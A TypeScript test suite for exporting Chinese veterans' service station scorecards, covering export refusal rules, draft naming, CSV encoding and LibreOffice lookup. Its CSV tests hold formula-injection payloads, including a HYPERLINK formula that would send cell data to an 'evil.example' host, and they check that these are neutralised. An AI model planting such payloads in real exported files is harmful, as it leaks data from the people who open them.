import { getRubric } from "../src/rubric";
import { NO, YES, scoreScorecard } from "../src/scoring";
import {
  BOM,
  blocksExport,
  csvField,
  csvRows,
  draftPath,
  exportDecision,
  exportFormatOf,
  issueOf,
  neutralise,
  toCsv,
} from "../src/export";
import { SOFFICE_FALLBACKS, findSoffice } from "../src/export/pdf";
import {
  COL,
  HEADERS,
  SUMMARY,
  VERDICT_TEXT,
  addr,
  buildPlan,
  planToGrid,
  readScorecard,
  rowOf,
  subtotalLabel,
  workbookFindings,
  type GridValue,
  type PlanValue,
  type ReadScorecard,
  type ScorecardEntries,
  type ScorecardState,
  type SheetGrid,
} from "../src/sheet";

const rubric = getRubric();
const layout = buildPlan({ rubric, station: "x", year: 2020 }).layout;
const fullMarks = (): Record<string, PlanValue> =>
  Object.fromEntries(rubric.baseItems.map((i) => [i.id, i.max]));

/** A scorecard as read; submitted unless told otherwise, as the cards a district exports are. */
function readOf(
  entries: Partial<ScorecardEntries>,
  edit?: (grid: SheetGrid) => SheetGrid,
  state: ScorecardState = "已提交",
): ReadScorecard {
  const plan = buildPlan({
    rubric,
    station: "巴川街道",
    year: 2020,
    state,
    entries: { self: {}, review: {}, evidence: {}, notes: {}, ...entries },
  });
  const grid = planToGrid(plan);
  return readScorecard(edit ? edit(grid) : grid);
}

/** A grid with one cell changed (value and, optionally, formula). */
const withCell =
  (cell: string, value: GridValue, formula: string | null = null) =>
  (grid: SheetGrid): SheetGrid => {
    const col = cell.charCodeAt(0) - 65;
    const row = Number(cell.slice(1)) - 1;
    const values = grid.values.map((r) => [...(r ?? [])]);
    const formulas = grid.formulas.map((r) => [...(r ?? [])]);
    values[row][col] = value;
    formulas[row][col] = formula;
    return { ...grid, values, formulas };
  };

/** Parses RFC 4180 text strictly: records end in CRLF, a bare CR or LF is only allowed inside quotes. */
function parseCsv(text: string): { value: string; quoted: boolean }[][] {
  const rows: { value: string; quoted: boolean }[][] = [];
  let row: { value: string; quoted: boolean }[] = [];
  let field = "";
  let quoted = false;
  let inQuotes = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (inQuotes) {
      if (ch === '"' && text[i + 1] === '"') ((field += '"'), i++);
      else if (ch === '"') inQuotes = false;
      else field += ch;
    } else if (ch === '"' && field === "") ((inQuotes = true), (quoted = true));
    else if (ch === ",") (row.push({ value: field, quoted }), (field = ""), (quoted = false));
    else if (ch === "\r" && text[i + 1] === "\n") {
      row.push({ value: field, quoted });
      rows.push(row);
      ((row = []), (field = ""), (quoted = false), i++);
    } else if (ch === "\r" || ch === "\n" || ch === '"')
      throw new Error(`stray ${JSON.stringify(ch)} at ${i}`);
    else field += ch;
  }
  if (field !== "" || row.length > 0 || inQuotes) throw new Error("the last record does not end in CRLF");
  return rows;
}

const values = (text: string): string[][] =>
  parseCsv(text.replace(/^\uFEFF/, "")).map((r) => r.map((f) => f.value));

describe("exportDecision", () => {
  it("allows a complete, valid scorecard, not as a draft", () => {
    const decision = exportDecision(readOf({ self: { ...fullMarks(), "12": 0.5 } }));
    expect(decision).toEqual({ ok: true, draft: false, incomplete: false, warnings: [] });
  });

  it("refuses an incomplete self-assessment, naming every unscored item and its cell, unless a draft", () => {
    const self = fullMarks();
    delete self["3"];
    delete self["70"];
    const read = readOf({ self, review: { "1": 2 } });
    const refused = exportDecision(read);
    expect(refused.ok).toBe(false);
    if (refused.ok) return;
    expect(refused.reason).toBe("incomplete");
    expect(refused.problems.map((p) => [p.kind, p.item, p.cell])).toEqual([
      ["unscored", "3", addr(COL.self, rowOf(layout, "3"))],
      ["unscored", "70", addr(COL.self, rowOf(layout, "70"))],
    ]);
    expect(issueOf(refused.problems[0], "zh").message).toBe("第3项尚未填写自评得分（F6）");
    expect(issueOf(refused.problems[0], "en")).toEqual({
      item: "3",
      column: "self",
      cell: "F6",
      severity: "error",
      message: "Item 3: no self-assessment score yet (F6)",
    });
    expect(exportDecision(read, { draft: true })).toEqual({
      ok: true,
      draft: true,
      incomplete: true,
      warnings: [],
    });
    // An empty review column (review not started) never blocks.
    expect(exportDecision(readOf({ self: fullMarks() })).ok).toBe(true);
  });

  it("makes the 上报 copy only from a submitted or reviewed scorecard: one still 填报中 needs a draft", () => {
    const filling = readOf({ self: fullMarks() }, undefined, "填报中");
    const refused = exportDecision(filling);
    expect(refused.ok).toBe(false);
    if (refused.ok) return;
    expect(refused.reason).toBe("not-submitted");
    expect(refused.problems.map((p) => [p.kind, p.code, p.item, p.cell, p.severity])).toEqual([
      ["not-submitted", "not-submitted", "sheet", "I2", "error"],
    ]);
    expect(refused.problems[0].message.zh).toBe(
      "状态为“填报中”，尚未提交：上报稿只能由已提交或已复核的评分表导出（I2）",
    );
    expect(exportDecision(filling, { draft: true })).toEqual({
      ok: true,
      draft: true,
      incomplete: false,
      warnings: [],
    });
    for (const state of ["已提交", "复核中", "已复核"] as const)
      expect(exportDecision(readOf({ self: fullMarks() }, undefined, state)).ok).toBe(true);
    // Still 填报中 and incomplete: both said, 填报中 first; errors come before either.
    const self = fullMarks();
    delete self["3"];
    const both = exportDecision(readOf({ self }, undefined, "填报中"));
    expect(both.ok ? [] : [both.reason, ...both.problems.map((p) => p.kind)]).toEqual([
      "not-submitted",
      "not-submitted",
      "unscored",
    ]);
    const broken = exportDecision(readOf({ self: { ...self, "12": "x" } }, undefined, "填报中"));
    expect(broken.ok ? [] : [broken.reason, ...broken.problems.map((p) => p.kind)]).toEqual([
      "problems",
      "invalid-entry",
      "not-submitted",
      "unscored",
    ]);
  });

  it("honours --draft on a complete scorecard too: the user asked for a copy marked 草稿", () => {
    expect(exportDecision(readOf({ self: fullMarks() }), { draft: true })).toMatchObject({
      ok: true,
      draft: true,
      incomplete: false,
    });
  });

  it("refuses invalid entries in either column with their cells, draft or not", () => {
    const read = readOf({ self: { ...fullMarks(), "12": "２", "13": 5 }, review: { "75.1": "有" } });
    for (const draft of [false, true]) {
      const d = exportDecision(read, { draft });
      expect(d.ok).toBe(false);
      if (d.ok) continue;
      expect(d.reason).toBe("problems");
      expect(d.problems.map((p) => [p.kind, p.cell])).toEqual([
        ["invalid-entry", "F15"],
        ["invalid-entry", "F16"],
        ["invalid-entry", addr(COL.review, rowOf(layout, "75.1"))],
      ]);
    }
  });

  it("lists invalid entries once, and the still-empty items beside them", () => {
    const self: Record<string, PlanValue> = { ...fullMarks(), "12": "abc" };
    delete self["20"];
    const d = exportDecision(readOf({ self }));
    expect(d.ok).toBe(false);
    if (d.ok) return;
    expect(d.reason).toBe("problems");
    expect(d.problems.map((p) => [p.kind, p.item])).toEqual([
      ["invalid-entry", "12"],
      ["unscored", "20"],
    ]);
  });

  it("refuses integrity errors (altered text, overwritten formula, removed guards)", () => {
    const total = addr(COL.self, layout.summaryRows.total);
    const text = addr(COL.text, rowOf(layout, "5"));
    const read = readOf({ self: fullMarks() }, (g) => withCell(total, 100)(withCell(text, "改过的标准")(g)));
    const d = exportDecision(read);
    expect(d.ok).toBe(false);
    if (d.ok) return;
    expect(d.problems.map((p) => [p.kind, p.code, p.cell])).toEqual(
      expect.arrayContaining([
        ["integrity", "text-changed", text],
        ["integrity", "formula-overwritten", total],
      ]),
    );
    const unguarded = readScorecard({
      ...planToGrid(buildPlan({ rubric, station: "s", year: 2020 })),
      guards: { protected: false, validatedAreas: [] },
    });
    expect(exportDecision(unguarded, { draft: true }).ok).toBe(false);
  });

  it("refuses a sheet whose station, year or edition is missing: the copy's title must state them", () => {
    const read = readOf({ self: fullMarks() }, withCell(addr(3, layout.metaRow), null));
    expect(read.findings).toEqual([expect.objectContaining({ code: "meta-missing", severity: "warning" })]);
    expect(blocksExport(read.findings[0])).toBe(true);
    const d = exportDecision(read);
    expect(d.ok).toBe(false);
    if (!d.ok) expect(d.problems).toEqual([expect.objectContaining({ cell: "D2", severity: "error" })]);
  });

  it("reports a score cell holding a formula as a warning and still exports its value", () => {
    const f4 = addr(COL.self, rowOf(layout, "1"));
    const read = readOf({ self: fullMarks() }, withCell(f4, 2, "1+1"));
    const d = exportDecision(read);
    expect(d).toMatchObject({ ok: true, draft: false });
    expect(d.warnings).toEqual([
      expect.objectContaining({ kind: "integrity", code: "entry-formula", cell: f4, severity: "warning" }),
    ]);
  });

  it("refuses two scorecards for one station and year in the same workbook", () => {
    const a = readOf({ self: fullMarks() });
    const b = { ...readOf({ self: fullMarks() }), sheet: "副本" };
    const extra = workbookFindings([a, b]);
    const d = exportDecision(a, { extra: extra.get(a) });
    expect(d.ok).toBe(false);
    if (!d.ok)
      expect(d.problems).toEqual([expect.objectContaining({ code: "duplicate-station", cell: "B2" })]);
  });
});

describe("output names", () => {
  it("chooses the format by the extension, case-insensitively, and nothing else", () => {
    expect(["a.xlsx", "b.CSV", "dir.v2/c.Pdf", "d"].map(exportFormatOf)).toEqual([
      "xlsx",
      "csv",
      "pdf",
      null,
    ]);
    expect(["a.xls", "a.txt", ".xlsx", "a.xlsx.bak", "pdf"].map(exportFormatOf)).toEqual([
      null,
      null,
      null,
      null,
      null,
    ]);
  });

  it("inserts -草稿 before the extension unless the file name already says 草稿", () => {
    expect(draftPath("评分表.xlsx")).toBe("评分表-草稿.xlsx");
    expect(draftPath("/tmp/out/巴川.2020.pdf")).toBe("/tmp/out/巴川.2020-草稿.pdf");
    expect(draftPath("C:\\导出\\a.csv")).toBe("C:\\导出\\a-草稿.csv");
    expect(draftPath("巴川草稿.xlsx")).toBe("巴川草稿.xlsx");
    expect(draftPath("草稿/a.xlsx")).toBe("草稿/a-草稿.xlsx");
  });
});

describe("CSV", () => {
  it("neutralises text cells that a spreadsheet would run as formulas, and only text cells", () => {
    expect(neutralise("=1+1")).toBe("'=1+1");
    // Neutralised fields are also quoted, as OWASP advises.
    expect(["=A1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"].map(csvField)).toEqual([
      `"'=A1"`,
      `"'+1"`,
      `"'-2"`,
      `"'@SUM(A1)"`,
      `"'\tx"`,
      `"'\rx"`,
    ]);
    expect(csvField('=HYPERLINK("http://evil.example","点我")')).toBe(
      `"'=HYPERLINK(""http://evil.example"",""点我"")"`,
    );
    expect([-2, 0, 0.5, 99.5, null, "", "正常 text", "a,b", 'say "hi"', "两\n行"].map(csvField)).toEqual([
      "-2",
      "0",
      "0.5",
      "99.5",
      "",
      "",
      "正常 text",
      `"a,b"`,
      `"say ""hi"""`,
      `"两\n行"`,
    ]);
    // Not at the start, or not one of the OWASP characters: left alone.
    expect(["a=b", " =1", "１+1", "'x"].map(csvField)).toEqual(["a=b", " =1", "１+1", "'x"]);
  });

  const evidence = {
    "1": '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "2": "+1",
    "3": "-2",
    "4": "@SUM(A1:A9)",
    "5": "\tx",
    "6": "\rx",
    "7": "会议记录，照片 3 张",
    "8": '制度汇编"第二版"\n附件',
  };
  const notes = { "9": "=1+1", "10": "-3 分" };
  const self = { ...fullMarks(), "12": 0.5 };
  const review = { ...fullMarks(), "1": -2, "75.1": NO, same: YES };
  // In review: the 复核 column shows its totals (before the review it is blank, as on the sheet).
  const read = readOf({ self, review, evidence, notes }, undefined, "复核中");
  const csv = toCsv(read);
  const rows = values(csv);
  const fields = parseCsv(csv.replace(/^\uFEFF/, ""));
  const rowOfItem = (id: string): string[] => {
    const index = rows.findIndex((r) => r[2] === (id === "same" ? "同一事项" : id));
    return rows[index];
  };

  it("starts with a UTF-8 BOM, ends every record with CRLF and has nine fields on every row", () => {
    expect(csv.startsWith(BOM)).toBe(true);
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(rows.every((r) => r.length === 9)).toBe(true);
    expect(csv.replace(/"(?:[^"]|"")*"/g, "").replace(/\r\n/g, "")).not.toMatch(/[\r\n]/);
  });

  it("holds the title, station, year and edition lines, then the official columns", () => {
    expect(rows[0][0]).toBe("巴川街道2020年全国示范型退役军人服务站创建评分表");
    expect(rows[1][0]).toBe(`依据《${rubric.title}》`);
    expect(rows.slice(2, 6).map((r) => r.slice(0, 2))).toEqual([
      ["服务站", "巴川街道"],
      ["年度", "2020"],
      ["标准版本", "试行标准（2020）"],
      ["状态", "复核中"],
    ]);
    expect(rows[7]).toEqual([...HEADERS]);
    const en = values(toCsv(read, "en"));
    expect(en.slice(2, 6).map((r) => r[0])).toEqual(["Station", "Year", "Edition", "State"]);
    expect(en[4][1]).toBe("Trial standard (2020)");
    expect(en[7]).toEqual([...HEADERS]);
    const draft = values(toCsv(read, "zh", { draft: true }));
    expect(draft[0][0]).toBe("【草稿】巴川街道2020年全国示范型退役军人服务站创建评分表");
  });

  it("has one row per entry, with category and task filled on every row", () => {
    const body = rows.slice(8, 8 + layout.entryIds.length);
    expect(body.map((r) => r[2])).toEqual(layout.entryIds.map((id) => (id === "same" ? "同一事项" : id)));
    for (const item of rubric.items) {
      const row = rowOfItem(item.id);
      const category = rubric.categories.find((c) => c.id === item.categoryId);
      // The texts as the rubric words them: no line break of the sheet's layout.
      expect([row[0], row[1], row[3], row[4]]).toEqual([
        category?.heading ?? rubric.bonus.heading,
        item.task ?? "",
        item.text,
        String(item.max),
      ]);
    }
    expect(rowOfItem("75.1")[0]).toBe("一票否决");
    expect(rowOfItem("12")[5]).toBe("0.5");
    expect(rowOfItem("same")[6]).toBe(YES);
  });

  it("neutralises evidence and notes, keeps numbers (a negative one too) as numbers", () => {
    expect(["1", "2", "3", "4", "5", "6"].map((id) => rowOfItem(id)[7])).toEqual([
      `'${evidence["1"]}`,
      "'+1",
      "'-2",
      "'@SUM(A1:A9)",
      "'\tx",
      "'\rx",
    ]);
    expect(rowOfItem("7")[7]).toBe("会议记录，照片 3 张");
    expect(rowOfItem("8")[7]).toBe(evidence["8"]);
    expect(rowOfItem("9")[8]).toBe("'=1+1");
    expect(rowOfItem("10")[8]).toBe("'-3 分");
    const item1 = fields[rows.findIndex((r) => r[2] === "1")];
    expect(item1[6]).toEqual({ value: "-2", quoted: false });
    expect(item1[5]).toEqual({ value: "2", quoted: false });
    // No field anywhere starts with a formula character.
    for (const row of fields)
      for (const f of row) if (!/^-?\d+(\.\d+)?$/.test(f.value)) expect(f.value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("ends with the subtotals and the summary, holding the engine's values", () => {
    const scored = scoreScorecard(rubric, read.entries.self, read.entries.review);
    const tail = csvRows(read).slice(-(rubric.categories.length + 7));
    const labelled = new Map(tail.map((r) => [r[0], r]));
    for (const [i, category] of rubric.categories.entries()) {
      expect(labelled.get(subtotalLabel(category.name))).toEqual([
        subtotalLabel(category.name),
        null,
        null,
        null,
        category.max,
        scored.self.categories[i].score,
        scored.review.categories[i].score,
        null,
        null,
      ]);
    }
    const pick = (label: string): unknown[] => (labelled.get(label) ?? []).slice(4, 7);
    expect(pick(SUMMARY.base)).toEqual([rubric.baseMax, scored.self.base, scored.review.base]);
    expect(pick(SUMMARY.bonus)).toEqual([rubric.bonus.cap, scored.self.bonus, scored.review.bonus]);
    expect(pick(SUMMARY.total)).toEqual([110, 99.5, scored.review.total]);
    expect(pick(SUMMARY.needed)).toEqual([rubric.passLine, 0, scored.review.needed]);
    expect(pick(SUMMARY.verdict)).toEqual([null, VERDICT_TEXT.pass, VERDICT_TEXT[scored.review.verdict]]);
    expect(scored.review.verdict).toBe("incomplete"); // item 1 reviewed -2: invalid
    expect((labelled.get(SUMMARY.total) ?? [])[7]).toBe("满分110＝基础分100＋加分10");
    expect(rows[rows.length - 1].slice(0, 8)).toEqual(["否决原因", "", "", "", "", "", "", ""]);
  });

  it("names the veto items that caused a veto, and leaves the 复核 column blank before the review", () => {
    const vetoed = readOf(
      { self: { ...fullMarks(), "75.2": YES }, review: { "75.1": YES } },
      undefined,
      "已提交",
    );
    const tail = csvRows(vetoed).slice(-2);
    expect(tail).toEqual([
      ["结论", null, null, null, null, VERDICT_TEXT.veto, "", null, null],
      ["否决原因", null, null, null, null, "75.2", "", "75.2 发生个人极端案事件的", null],
    ]);
    const reviewing = readOf(
      { self: { ...fullMarks(), "75.2": YES }, review: { "75.1": YES } },
      undefined,
      "复核中",
    );
    expect(csvRows(reviewing).slice(-1)).toEqual([
      [
        "否决原因",
        null,
        null,
        null,
        null,
        "75.2",
        "75.1",
        "75.1 发生重大群体性事件的；75.2 发生个人极端案事件的",
        null,
      ],
    ]);
  });
});

describe("findSoffice", () => {
  const only =
    (...paths: string[]) =>
    (p: string): boolean =>
      paths.includes(p);

  it("looks on PATH first, then the usual install places, and honours $SOFFICE", () => {
    expect(findSoffice({ env: { PATH: "/a:/b" }, platform: "linux", isExecutable: only("/b/soffice") })).toBe(
      "/b/soffice",
    );
    expect(
      findSoffice({ env: { PATH: "/a" }, platform: "linux", isExecutable: only("/a/libreoffice") }),
    ).toBe("/a/libreoffice");
    expect(SOFFICE_FALLBACKS).toEqual(
      expect.arrayContaining(["/usr/bin/soffice", "/usr/lib/libreoffice/program/soffice"]),
    );
    expect(
      findSoffice({ env: {}, platform: "linux", isExecutable: only("/usr/lib/libreoffice/program/soffice") }),
    ).toBe("/usr/lib/libreoffice/program/soffice");
    expect(
      findSoffice({
        env: { SOFFICE: "/opt/lo/soffice", PATH: "/b" },
        isExecutable: only("/opt/lo/soffice", "/b/soffice"),
      }),
    ).toBe("/opt/lo/soffice");
  });

  it("returns null when LibreOffice is nowhere", () => {
    expect(findSoffice({ env: { PATH: "/a:/b" }, isExecutable: () => false })).toBeNull();
    expect(findSoffice({ env: {}, fallbacks: [], isExecutable: () => true })).toBeNull();
  });
});
